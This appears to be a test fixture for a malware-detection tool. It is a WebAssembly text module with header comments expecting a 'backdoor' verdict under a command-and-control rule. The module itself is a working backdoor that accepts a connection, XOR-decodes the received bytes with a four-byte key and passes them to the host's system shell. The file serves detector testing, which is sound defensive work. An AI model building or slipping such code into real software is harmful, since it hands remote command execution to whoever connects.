;; RUN: spoor trace % --json
;; WHAT: Backdoor: takes an order from whoever connects, decodes it with a key of four bytes and gives it to
;;   the host's shell.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS family=backdoor rule=communication/c2 status=exited host=env.system:1
(module
  (import "wasi_snapshot_preview1" "sock_accept" (func $sock_accept (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_recv" (func $sock_recv (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "env" "system" (func $system (param i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 512) "\05\11\02\17")
  (func $decode (param $at i32) (param $len i32) (local $i i32)
    (block $done
      (loop $byte
        (br_if $done (i32.ge_u (local.get $i) (local.get $len)))
        (i32.store8 (i32.add (local.get $at) (local.get $i))
          (i32.xor
            (i32.load8_u (i32.add (local.get $at) (local.get $i)))
            (i32.load8_u offset=512 (i32.and (local.get $i) (i32.const 3)))))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br $byte))))
  (func (export "_start")
    (if (call $sock_accept (i32.const 4) (i32.const 0) (i32.const 20)) (then (return)))
    (i32.store (i32.const 0) (i32.const 1024))
    (i32.store (i32.const 4) (i32.const 256))
    (drop (call $sock_recv (i32.load (i32.const 20)) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8) (i32.const 16)))
    (call $decode (i32.const 1024) (i32.load (i32.const 8)))
    (drop (call $system (i32.const 1024)))))
